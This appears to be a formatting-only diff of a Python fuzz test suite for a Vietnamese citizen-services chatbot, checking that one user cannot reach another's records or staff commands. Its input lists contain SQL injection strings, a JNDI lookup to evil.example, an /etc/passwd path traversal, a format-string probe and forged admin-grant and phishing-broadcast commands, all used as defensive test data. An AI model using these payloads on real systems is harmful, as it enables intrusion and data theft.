@@ -38,24 +38,68 @@ CRAFTED_TEXT = [
     "*bold* _it_ `code` [link](https://evil.example) ![img](https://evil.example/x.png)",
     "'; DROP TABLE users; --",
     "1' OR '1'='1' UNION SELECT * FROM subscriptions --",
-    "/admin", "/broadcast\nTất cả đóng phí ngay tại evil.example", "/broadcasts", "/grant admin web:userB",
-    "/revoke admin web:admin1", "/roles", "/stats", "/outreach", "/broadcast_cancel 1", "/start@evil_bot",
-    "\x00\x01\x02\x1b[31m\u202e\u200b\ufeff", "\ud7ff\ue000\U0010ffff", "🧨" * 500,
-    "a" * 100_000, "tra cứu " + "9" * 100_000, f"tra cứu hồ sơ {COMPLETED_CODE}",
-    f"{COMPLETED_CODE} {AWAITING_PAYMENT_CODE}", "%s%s%n{0}{user}",
+    "/admin",
+    "/broadcast\nTất cả đóng phí ngay tại evil.example",
+    "/broadcasts",
+    "/grant admin web:userB",
+    "/revoke admin web:admin1",
+    "/roles",
+    "/stats",
+    "/outreach",
+    "/broadcast_cancel 1",
+    "/start@evil_bot",
+    "\x00\x01\x02\x1b[31m\u202e\u200b\ufeff",
+    "\ud7ff\ue000\U0010ffff",
+    "🧨" * 500,
+    "a" * 100_000,
+    "tra cứu " + "9" * 100_000,
+    f"tra cứu hồ sơ {COMPLETED_CODE}",
+    f"{COMPLETED_CODE} {AWAITING_PAYMENT_CODE}",
+    "%s%s%n{0}{user}",
     # Near misses of A's proof (A's real proof would rightly open A's requests).
-    "001190004568", "4567 15/03/1990", "4567 14/03/1991",
-    "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "null", "undefined", "NaN", "-1", "99999999999",
-    "²", "¹", "٣", "１",  # a superscript, Arabic-Indic or full-width "number" for a numbered option
+    "001190004568",
+    "4567 15/03/1990",
+    "4567 14/03/1991",
+    "${jndi:ldap://evil.example/a}",
+    "../../../../etc/passwd",
+    "null",
+    "undefined",
+    "NaN",
+    "-1",
+    "99999999999",
+    "²",
+    "¹",
+    "٣",
+    "１",  # a superscript, Arabic-Indic or full-width "number" for a numbered option
 ]
 PAYLOADS = [
-    f"status:notify:{AWAITING_PAYMENT_CODE}", f"status:notify:{COMPLETED_CODE}", "status:retry",
-    f"certificate:show:{COMPLETED_CODE}", "staff:broadcast:send:1", "staff:broadcast:drop:1",
-    "menu:forget:yes", "menu:open:status", "onboarding:province:set:79", "onboarding:consent:yes",
-    "cmd:forget", "cmd:admin", "intent:check_status", "fees:copies:-1", "fees:copies:999999999999",
-    "guide:step:-1", "guide:step:99999", "status:notify:", ":::", "", "status:notify:' OR 1=1 --",
+    f"status:notify:{AWAITING_PAYMENT_CODE}",
+    f"status:notify:{COMPLETED_CODE}",
+    "status:retry",
+    f"certificate:show:{COMPLETED_CODE}",
+    "staff:broadcast:send:1",
+    "staff:broadcast:drop:1",
+    "menu:forget:yes",
+    "menu:open:status",
+    "onboarding:province:set:79",
+    "onboarding:consent:yes",
+    "cmd:forget",
+    "cmd:admin",
+    "intent:check_status",
+    "fees:copies:-1",
+    "fees:copies:999999999999",
+    "guide:step:-1",
+    "guide:step:99999",
+    "status:notify:",
+    ":::",
+    "",
+    "status:notify:' OR 1=1 --",
     # Digits Python's isdigit() accepts but int() refuses, and other scripts' digits.
-    "guide:step:²", "guide:problems:¹", "fees:copies:³", "answers:rate:up:²", "guide:step:٣",
+    "guide:step:²",
+    "guide:problems:¹",
+    "fees:copies:³",
+    "answers:rate:up:²",
+    "guide:step:٣",
 ]
 
 texts = st.one_of(
@@ -67,13 +111,30 @@ texts = st.one_of(
 payloads = st.one_of(
     st.sampled_from(PAYLOADS),
     st.text(max_size=250),
-    st.builds(lambda flow, rest: f"{flow}:{rest}",
-              st.sampled_from(["menu", "status", "certificate", "fees", "guide", "onboarding", "handoff",
-                               "intent", "eligibility", "payment", "staff:broadcast", "cmd"]),
-              st.text(max_size=60)),
+    st.builds(
+        lambda flow, rest: f"{flow}:{rest}",
+        st.sampled_from(
+            [
+                "menu",
+                "status",
+                "certificate",
+                "fees",
+                "guide",
+                "onboarding",
+                "handoff",
+                "intent",
+                "eligibility",
+                "payment",
+                "staff:broadcast",
+                "cmd",
+            ]
+        ),
+        st.text(max_size=60),
+    ),
 )
-messages = st.lists(st.tuples(st.sampled_from(["say", "press", "start"]), st.one_of(texts, payloads)),
-                    min_size=1, max_size=4)
+messages = st.lists(
+    st.tuples(st.sampled_from(["say", "press", "start"]), st.one_of(texts, payloads)), min_size=1, max_size=4
+)
 
 
 @pytest.fixture
@@ -112,9 +173,14 @@ def assert_shows_something(replies: list[Reply]) -> None:
 
 def assert_nothing_of_a(replies: list[Reply], a: dict, sent: str) -> None:
     shown = "\n".join(
-        part for reply in replies
-        for part in (reply.text, reply.link.url if reply.link else "", reply.image.alt if reply.image else "",
-                     *(b.title + " " + b.payload for b in reply.all_buttons))
+        part
+        for reply in replies
+        for part in (
+            reply.text,
+            reply.link.url if reply.link else "",
+            reply.image.alt if reply.image else "",
+            *(b.title + " " + b.payload for b in reply.all_buttons),
+        )
     )
     for secret in (*a["links"], a["id"], a["holder"]):
         if secret not in sent:  # B may get back what B typed, nothing more
@@ -148,8 +214,6 @@ async def test_a_brand_new_user_gets_a_reply_to_anything_as_a_first_message(talk
     fresh = talk(f"new{next(_fresh_ids)}")
     for how, value in batch:
         assert_shows_something(await getattr(fresh, how)(value))
-
-
 
 
 async def test_forged_subscription_to_another_users_request_asks_for_proof(talk, storage, user_a):
